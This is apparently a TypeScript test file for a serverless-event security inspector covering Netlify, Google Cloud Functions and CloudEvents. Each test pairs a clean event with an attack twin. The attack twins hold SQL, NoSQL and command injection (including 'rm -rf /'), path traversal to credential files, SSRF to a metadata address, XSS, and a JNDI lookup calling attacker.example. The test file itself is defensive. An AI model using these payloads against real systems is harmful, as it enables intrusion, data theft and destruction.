// Trigger recognition and extraction for Netlify Functions (v1 events, v2 Fetch Requests), Google Cloud Functions
// HTTP requests and CloudEvents (Pub/Sub, Cloud Storage). Each event carries an attack in a field the sender
// controls, next to a clean twin that must produce no finding.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type * as InspectorModule from '../../src/inspector/index.js';

const { inspectEvent, recognizeTrigger } = require('../../../dist/inspector/index.js') as typeof InspectorModule;

function found(event: unknown, options?: InspectorModule.InspectOptions): string[] {
  return inspectEvent(event, options)
    .attacks.filter((attack) => attack.confidence !== 'low')
    .map((attack) => `${attack.class}@${attack.path}`)
    .sort();
}

const BROWSER_HEADERS = {
  accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
  'accept-language': 'en-GB,en;q=0.9',
  'content-type': 'application/json',
  'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
  referer: 'https://shop.example.com/products?page=2&sort=price',
};

function netlifyV1(rawQuery: string, query: Record<string, string>, body: string) {
  return {
    path: '/.netlify/functions/orders',
    httpMethod: 'POST',
    headers: { ...BROWSER_HEADERS, 'x-nf-request-id': '01HF3Z8X2Q9W7Y6V5T4R3S2P1N' },
    multiValueHeaders: { accept: ['*/*'] },
    queryStringParameters: query,
    multiValueQueryStringParameters: Object.fromEntries(Object.entries(query).map(([k, v]) => [k, [v]])),
    body,
    isBase64Encoded: false,
    rawUrl: `https://shop.example.com/.netlify/functions/orders?${rawQuery}`,
    rawQuery,
  };
}

test('Netlify Functions v1: rawUrl and rawQuery are scanned with the API Gateway v1 fields; the clean twin is clean', () => {
  const clean = netlifyV1('sort=name&page=2', { sort: 'name', page: '2' }, JSON.stringify({ note: 'leave at door' }));
  assert.equal(recognizeTrigger(clean), 'netlify-v1');
  assert.deepEqual(found(clean), []);

  const attack = netlifyV1(
    'sort=name%27%20OR%201%3D1--&user[__proto__][admin]=1',
    { sort: "name' OR 1=1--" },
    JSON.stringify({ note: 'leave at door' }),
  );
  const paths = found(attack);
  assert.ok(paths.includes('sqli@rawQuery.sort'), paths.join());
  assert.ok(paths.includes('sqli@queryStringParameters.sort'), paths.join());
  assert.ok(paths.includes('prototype-pollution@rawQuery.user[__proto__][admin]'), paths.join());

  // Under `netlify dev` rawUrl names localhost: the site's own host is not input (no ssrf), its path is.
  const local = { ...clean, rawUrl: 'http://localhost:8888/.netlify/functions/orders?sort=name&page=2' };
  assert.deepEqual(found(local), []);
  const climbing = { ...clean, rawUrl: 'http://localhost:8888/.netlify/functions/orders/..%2F..%2F..%2Fetc%2Fpasswd' };
  assert.ok(found(climbing).includes('traversal@rawUrl'), found(climbing).join());
});

test('Fetch Request (Netlify v2): path, query and headers from the Request, the body as read by the caller', async () => {
  const clean = new Request('https://shop.example.com/api/orders?sort=name', {
    method: 'POST',
    headers: BROWSER_HEADERS,
    body: JSON.stringify({ items: [{ sku: 'A-1', quantity: 2 }] }),
  });
  assert.equal(recognizeTrigger(clean), 'fetch-request');
  assert.deepEqual(found(clean, { body: await clean.clone().text() }), []);

  const attack = new Request(
    'https://shop.example.com/api/files/..%2F..%2Fetc%2Fpasswd?url=http://169.254.169.254/latest/meta-data/',
    {
      method: 'POST',
      headers: { ...BROWSER_HEADERS, 'x-api-version': '$' + '{jndi:ldap://attacker.example/a}' },
      body: JSON.stringify({ items: [{ sku: 'A-1', quantity: { $gt: 0 } }], note: '<script>alert(1)</script>' }),
    },
  );
  const body = await attack.clone().text();
  const paths = found(attack, { body });
  assert.ok(paths.includes('traversal@path'), paths.join());
  assert.ok(paths.includes('ssrf@query.url'), paths.join());
  assert.ok(paths.includes('template@headers.x-api-version'), paths.join());
  assert.ok(paths.includes('nosqli@body.items[0].quantity.$gt'), paths.join());
  assert.ok(paths.includes('xss@body.note'), paths.join());
  // Without the pre-read body, the body is not scanned (and the Request's own body is left unread).
  assert.ok(!found(attack).some((path) => path.includes('@body')));
  assert.equal(attack.bodyUsed, false);

  const form = new Request('https://shop.example.com/login', {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: "user=admin'--&password=x",
  });
  assert.ok(found(form, { body: await form.clone().text() }).includes('sqli@body.user'));
});

function expressRequest(url: string, query: Record<string, unknown>, body: unknown, headers = BROWSER_HEADERS) {
  // The fields an Express request (as Google Cloud Functions pass it) exposes after its body parsers ran.
  return {
    method: 'POST',
    url,
    originalUrl: url,
    path: url.split('?')[0],
    query,
    headers,
    body,
    rawBody: Buffer.from(''),
  };
}

test('Google Cloud Functions HTTP: url, raw query keys, headers and the parsed body', () => {
  const clean = expressRequest('/orders?sort=name&page=2', { sort: 'name', page: '2' }, { note: 'ring twice' });
  assert.equal(recognizeTrigger(clean), 'gcf-http');
  assert.deepEqual(found(clean), []);

  const attack = expressRequest(
    '/orders?sort=name;cat%20/etc/passwd&filter[$ne]=x',
    { sort: 'name;cat /etc/passwd', filter: { $ne: 'x' } },
    { user: { username: { $regex: '.*' } }, callback: 'http://127.0.0.1:8080/admin' },
  );
  const paths = found(attack);
  assert.ok(paths.includes('cmdi@query.sort'), paths.join());
  assert.ok(paths.includes('nosqli@query.filter[$ne]'), paths.join());
  assert.ok(paths.includes('nosqli@body.user.username.$regex'), paths.join());
  assert.ok(paths.includes('ssrf@body.callback'), paths.join());

  const textBody = expressRequest('/notes', {}, "x' UNION SELECT password FROM users--", {
    ...BROWSER_HEADERS,
    'content-type': 'text/plain',
  });
  assert.ok(found(textBody).includes('sqli@body'));
  const rawBody = expressRequest('/notes', {}, Buffer.from("x' UNION SELECT password FROM users--"), {
    ...BROWSER_HEADERS,
    'content-type': 'application/octet-stream',
  });
  assert.ok(found(rawBody).includes('sqli@body'));
});

function pubsubEvent(payload: string, attributes: Record<string, string>) {
  return {
    specversion: '1.0',
    id: '8931548574829512',
    source: '//pubsub.googleapis.com/projects/shop/topics/orders',
    type: 'google.cloud.pubsub.topic.v1.messagePublished',
    datacontenttype: 'application/json',
    time: '2026-11-23T15:00:00.000Z',
    data: {
      message: {
        data: Buffer.from(payload).toString('base64'),
        attributes,
        messageId: '8931548574829512',
        publishTime: '2026-11-23T15:00:00.000Z',
      },
      subscription: 'projects/shop/subscriptions/orders-fn',
    },
  };
}

test('CloudEvents: Pub/Sub message data is base64-decoded, attributes scanned; envelope fields are not input', () => {
  const clean = pubsubEvent(JSON.stringify({ orderId: 42, note: 'gift wrap' }), { origin: 'web' });
  assert.equal(recognizeTrigger(clean), 'cloudevent');
  assert.deepEqual(found(clean), []);

  const attack = pubsubEvent(JSON.stringify({ orderId: "42' OR '1'='1", file: '../../../../etc/shadow' }), {
    origin: '{{constructor.constructor("return process")()}}',
  });
  const paths = found(attack);
  assert.ok(paths.includes('sqli@data.message.data.orderId'), paths.join());
  assert.ok(paths.includes('traversal@data.message.data.file'), paths.join());
  assert.ok(paths.includes('template@data.message.attributes.origin'), paths.join());
});

test('CloudEvents: JSON data (Cloud Storage), data_base64 and text data', () => {
  const storage = (name: string) => ({
    specversion: '1.0',
    id: '1234',
    source: '//storage.googleapis.com/projects/_/buckets/uploads',
    type: 'google.cloud.storage.object.v1.finalized',
    subject: `objects/${name}`,
    data: { bucket: 'uploads', name, contentType: 'image/png', size: '1024' },
  });
  assert.deepEqual(found(storage('avatars/user-42.png')), []);
  const paths = found(storage('avatars/<img src=x onerror=alert(1)>.png'));
  assert.ok(paths.includes('xss@data.name'), paths.join());
  assert.ok(paths.includes('xss@subject'), paths.join());

  const binary = (text: string) => ({
    specversion: '1.0',
    id: '1',
    source: 'https://example.com/orders',
    type: 'com.example.order.created',
    data_base64: Buffer.from(text).toString('base64'),
  });
  assert.deepEqual(found(binary(JSON.stringify({ note: 'fragile' }))), []);
  assert.ok(found(binary(JSON.stringify({ note: '; rm -rf / #' }))).includes('cmdi@data_base64.note'));

  const text = (data: string) => ({ specversion: '1.0', id: '2', source: 'x', type: 'com.example.text', data });
  assert.deepEqual(found(text('hello world')), []);
  assert.ok(found(text('1 UNION SELECT username, password FROM users')).includes('sqli@data'));
});
